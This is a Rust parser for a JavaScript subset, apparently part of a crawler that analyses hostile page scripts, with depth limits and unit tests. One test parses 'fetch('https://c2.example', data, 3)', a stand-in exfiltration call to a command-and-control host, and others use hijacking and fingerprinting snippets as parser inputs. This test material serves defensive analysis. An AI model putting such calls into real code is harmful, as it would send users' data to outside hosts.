//! Recursive-descent / Pratt parser for MJS.

use crate::ast::{BinOp, Expr, Script, Stmt};
use crate::lexer::{lex, LexError, Token};
use std::fmt;

/// Maximum expression/statement nesting depth. Hostile page scripts with
/// thousands of nested parentheses must produce an error, not a stack
/// overflow that aborts the whole crawler process.
pub const MAX_NESTING: usize = 256;

/// A parse failure.
#[derive(Debug, Clone, PartialEq)]
pub enum ParseError {
    /// Tokenization failed.
    Lex(LexError),
    /// Unexpected token (or end of input).
    Unexpected {
        /// What was found, or `None` at end of input.
        found: Option<Token>,
        /// What the parser wanted.
        expected: &'static str,
    },
    /// Assignment to something that is not an identifier or member.
    BadAssignTarget,
    /// Nesting exceeded [`MAX_NESTING`].
    TooDeep,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ParseError::Lex(e) => write!(f, "{e}"),
            ParseError::Unexpected { found, expected } => match found {
                Some(t) => write!(f, "unexpected token {t:?}, expected {expected}"),
                None => write!(f, "unexpected end of input, expected {expected}"),
            },
            ParseError::BadAssignTarget => write!(f, "invalid assignment target"),
            ParseError::TooDeep => write!(f, "nesting exceeds {MAX_NESTING}"),
        }
    }
}

impl std::error::Error for ParseError {}

impl From<LexError> for ParseError {
    fn from(e: LexError) -> Self {
        ParseError::Lex(e)
    }
}

/// Parse MJS source into a [`Script`].
///
/// # Errors
///
/// Returns [`ParseError`] on malformed input.
pub fn parse(src: &str) -> Result<Script, ParseError> {
    let tokens = lex(src)?;
    let mut p = Parser {
        tokens,
        pos: 0,
        depth: 0,
    };
    let mut stmts = Vec::new();
    while !p.at_end() {
        stmts.push(p.statement()?);
    }
    Ok(Script { stmts })
}

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
    depth: usize,
}

impl Parser {
    fn at_end(&self) -> bool {
        self.pos >= self.tokens.len()
    }

    fn enter(&mut self) -> Result<(), ParseError> {
        self.depth += 1;
        if self.depth > MAX_NESTING {
            Err(ParseError::TooDeep)
        } else {
            Ok(())
        }
    }

    fn leave(&mut self) {
        self.depth -= 1;
    }

    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.pos)
    }

    fn advance(&mut self) -> Option<Token> {
        let t = self.tokens.get(self.pos).cloned();
        self.pos += 1;
        t
    }

    fn eat(&mut self, tok: &Token) -> bool {
        if self.peek() == Some(tok) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect(&mut self, tok: Token, what: &'static str) -> Result<(), ParseError> {
        if self.eat(&tok) {
            Ok(())
        } else {
            Err(ParseError::Unexpected {
                found: self.peek().cloned(),
                expected: what,
            })
        }
    }

    fn statement(&mut self) -> Result<Stmt, ParseError> {
        self.enter()?;
        let result = self.statement_inner();
        self.leave();
        result
    }

    fn statement_inner(&mut self) -> Result<Stmt, ParseError> {
        match self.peek() {
            Some(Token::Var) => {
                self.advance();
                let name = self.ident("variable name")?;
                let init = if self.eat(&Token::Assign) {
                    self.expression(0)?
                } else {
                    Expr::Null
                };
                self.eat(&Token::Semi);
                Ok(Stmt::VarDecl { name, init })
            }
            Some(Token::If) => {
                self.advance();
                self.expect(Token::LParen, "( after if")?;
                let cond = self.expression(0)?;
                self.expect(Token::RParen, ") after condition")?;
                let then_branch = self.block_or_single()?;
                let else_branch = if self.eat(&Token::Else) {
                    if self.peek() == Some(&Token::If) {
                        vec![self.statement()?]
                    } else {
                        self.block_or_single()?
                    }
                } else {
                    Vec::new()
                };
                Ok(Stmt::If {
                    cond,
                    then_branch,
                    else_branch,
                })
            }
            Some(Token::While) => {
                self.advance();
                self.expect(Token::LParen, "( after while")?;
                let cond = self.expression(0)?;
                self.expect(Token::RParen, ") after condition")?;
                let body = self.block_or_single()?;
                Ok(Stmt::While { cond, body })
            }
            Some(Token::Debugger) => {
                self.advance();
                self.eat(&Token::Semi);
                Ok(Stmt::Debugger)
            }
            _ => {
                let expr = self.expression(0)?;
                if self.eat(&Token::Assign) {
                    if !matches!(expr, Expr::Ident(_) | Expr::Member { .. }) {
                        return Err(ParseError::BadAssignTarget);
                    }
                    let value = self.expression(0)?;
                    self.eat(&Token::Semi);
                    Ok(Stmt::Assign {
                        target: expr,
                        value,
                    })
                } else {
                    self.eat(&Token::Semi);
                    Ok(Stmt::Expr(expr))
                }
            }
        }
    }

    fn block_or_single(&mut self) -> Result<Vec<Stmt>, ParseError> {
        if self.eat(&Token::LBrace) {
            let mut stmts = Vec::new();
            while self.peek() != Some(&Token::RBrace) {
                if self.at_end() {
                    return Err(ParseError::Unexpected {
                        found: None,
                        expected: "} to close block",
                    });
                }
                stmts.push(self.statement()?);
            }
            self.expect(Token::RBrace, "} to close block")?;
            Ok(stmts)
        } else {
            Ok(vec![self.statement()?])
        }
    }

    fn ident(&mut self, what: &'static str) -> Result<String, ParseError> {
        match self.advance() {
            Some(Token::Ident(name)) => Ok(name),
            found => Err(ParseError::Unexpected {
                found,
                expected: what,
            }),
        }
    }

    /// Pratt expression parser with binding powers.
    fn expression(&mut self, min_bp: u8) -> Result<Expr, ParseError> {
        self.enter()?;
        let result = self.expression_inner(min_bp);
        self.leave();
        result
    }

    fn expression_inner(&mut self, min_bp: u8) -> Result<Expr, ParseError> {
        let mut lhs = self.prefix()?;
        loop {
            let (op, bp) = match self.peek() {
                Some(Token::Or) => (BinOp::Or, 1),
                Some(Token::And) => (BinOp::And, 2),
                Some(Token::Eq) => (BinOp::Eq, 3),
                Some(Token::Ne) => (BinOp::Ne, 3),
                Some(Token::Lt) => (BinOp::Lt, 4),
                Some(Token::Le) => (BinOp::Le, 4),
                Some(Token::Gt) => (BinOp::Gt, 4),
                Some(Token::Ge) => (BinOp::Ge, 4),
                Some(Token::Plus) => (BinOp::Add, 5),
                Some(Token::Minus) => (BinOp::Sub, 5),
                Some(Token::Star) => (BinOp::Mul, 6),
                Some(Token::Slash) => (BinOp::Div, 6),
                Some(Token::Percent) => (BinOp::Mod, 6),
                _ => break,
            };
            if bp < min_bp {
                break;
            }
            self.advance();
            let rhs = self.expression(bp + 1)?;
            lhs = Expr::Binary {
                op,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            };
        }
        Ok(lhs)
    }

    fn prefix(&mut self) -> Result<Expr, ParseError> {
        self.enter()?;
        let result = self.prefix_guarded();
        self.leave();
        result
    }

    fn prefix_guarded(&mut self) -> Result<Expr, ParseError> {
        let expr = match self.advance() {
            Some(Token::Number(n)) => Expr::Number(n),
            Some(Token::Str(s)) => Expr::Str(s),
            Some(Token::True) => Expr::Bool(true),
            Some(Token::False) => Expr::Bool(false),
            Some(Token::Null) => Expr::Null,
            Some(Token::Ident(name)) => Expr::Ident(name),
            Some(Token::Not) => return Ok(Expr::Not(Box::new(self.prefix_postfix()?))),
            Some(Token::Minus) => return Ok(Expr::Neg(Box::new(self.prefix_postfix()?))),
            Some(Token::LParen) => {
                let inner = self.expression(0)?;
                self.expect(Token::RParen, ") to close group")?;
                inner
            }
            found => {
                return Err(ParseError::Unexpected {
                    found,
                    expected: "expression",
                })
            }
        };
        self.postfix(expr)
    }

    fn prefix_postfix(&mut self) -> Result<Expr, ParseError> {
        let e = self.prefix()?;
        Ok(e)
    }

    /// Member access and calls bind tightest: `a.b.c(d).e`.
    fn postfix(&mut self, mut expr: Expr) -> Result<Expr, ParseError> {
        loop {
            if self.eat(&Token::Dot) {
                let prop = self.ident("property name")?;
                expr = Expr::Member {
                    object: Box::new(expr),
                    prop,
                };
            } else if self.eat(&Token::LParen) {
                let mut args = Vec::new();
                if self.peek() != Some(&Token::RParen) {
                    loop {
                        args.push(self.expression(0)?);
                        if !self.eat(&Token::Comma) {
                            break;
                        }
                    }
                }
                self.expect(Token::RParen, ") to close call")?;
                expr = Expr::Call {
                    callee: Box::new(expr),
                    args,
                };
            } else {
                break;
            }
        }
        Ok(expr)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn var_decl_with_init() {
        let s = parse("var ua = navigator.userAgent;").unwrap();
        assert_eq!(s.stmts.len(), 1);
        match &s.stmts[0] {
            Stmt::VarDecl { name, init } => {
                assert_eq!(name, "ua");
                assert!(matches!(init, Expr::Member { .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn precedence_and_over_or() {
        let s = parse("var x = a || b && c;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        // Expect Or(a, And(b, c))
        match init {
            Expr::Binary {
                op: BinOp::Or, rhs, ..
            } => {
                assert!(matches!(**rhs, Expr::Binary { op: BinOp::And, .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn arithmetic_precedence() {
        let s = parse("var x = 1 + 2 * 3;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        match init {
            Expr::Binary {
                op: BinOp::Add,
                rhs,
                ..
            } => {
                assert!(matches!(**rhs, Expr::Binary { op: BinOp::Mul, .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn method_chains_parse() {
        let s = parse("var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        // member(call(member(call(member(Intl, DateTimeFormat)), resolvedOptions)), timeZone)
        let Expr::Member { prop, object } = init else {
            panic!("{init:?}")
        };
        assert_eq!(prop, "timeZone");
        assert!(matches!(**object, Expr::Call { .. }));
    }

    #[test]
    fn if_else_chain() {
        let s = parse("if (a) { b(); } else if (c) { d(); } else { e(); }").unwrap();
        let Stmt::If { else_branch, .. } = &s.stmts[0] else {
            panic!()
        };
        assert_eq!(else_branch.len(), 1);
        assert!(matches!(else_branch[0], Stmt::If { .. }));
    }

    #[test]
    fn single_statement_bodies() {
        let s = parse("if (a) b(); else c();").unwrap();
        let Stmt::If {
            then_branch,
            else_branch,
            ..
        } = &s.stmts[0]
        else {
            panic!()
        };
        assert_eq!(then_branch.len(), 1);
        assert_eq!(else_branch.len(), 1);
    }

    #[test]
    fn member_assignment() {
        let s = parse("console.log = myHijack;").unwrap();
        assert!(matches!(
            &s.stmts[0],
            Stmt::Assign {
                target: Expr::Member { .. },
                ..
            }
        ));
    }

    #[test]
    fn bad_assignment_target_rejected() {
        assert_eq!(parse("1 + 2 = 3;"), Err(ParseError::BadAssignTarget));
    }

    #[test]
    fn while_loop() {
        let s = parse("while (i < 10) { i = i + 1; }").unwrap();
        assert!(matches!(&s.stmts[0], Stmt::While { .. }));
    }

    #[test]
    fn debugger_statement() {
        let s = parse("debugger; debugger;").unwrap();
        assert_eq!(s.stmts, vec![Stmt::Debugger, Stmt::Debugger]);
    }

    #[test]
    fn unary_operators() {
        let s = parse("var a = !b; var c = -d;").unwrap();
        assert!(matches!(
            &s.stmts[0],
            Stmt::VarDecl {
                init: Expr::Not(_),
                ..
            }
        ));
        assert!(matches!(
            &s.stmts[1],
            Stmt::VarDecl {
                init: Expr::Neg(_),
                ..
            }
        ));
    }

    #[test]
    fn unclosed_block_errors() {
        assert!(parse("if (a) { b();").is_err());
    }

    #[test]
    fn call_with_multiple_args() {
        let s = parse("fetch('https://c2.example', data, 3);").unwrap();
        let Stmt::Expr(Expr::Call { args, .. }) = &s.stmts[0] else {
            panic!()
        };
        assert_eq!(args.len(), 3);
    }

    #[test]
    fn not_applies_to_member_chain() {
        let s = parse("var hidden = !navigator.webdriver;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        let Expr::Not(inner) = init else {
            panic!("{init:?}")
        };
        assert!(matches!(**inner, Expr::Member { .. }));
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;

    #[test]
    fn deep_parentheses_error_instead_of_stack_overflow() {
        let src = format!("var a = {}1{};", "(".repeat(100_000), ")".repeat(100_000));
        assert_eq!(parse(&src), Err(ParseError::TooDeep));
    }

    #[test]
    fn deep_unary_chains_error() {
        let src = format!("var a = {}1;", "!".repeat(100_000));
        assert_eq!(parse(&src), Err(ParseError::TooDeep));
    }

    #[test]
    fn deep_nested_blocks_error() {
        let src = format!(
            "{}var a = 1;{}",
            "if (1) { ".repeat(100_000),
            "}".repeat(100_000)
        );
        assert_eq!(parse(&src), Err(ParseError::TooDeep));
    }

    #[test]
    fn reasonable_nesting_still_parses() {
        let src = format!("var a = {}1{};", "(".repeat(50), ")".repeat(50));
        assert!(parse(&src).is_ok());
    }
}
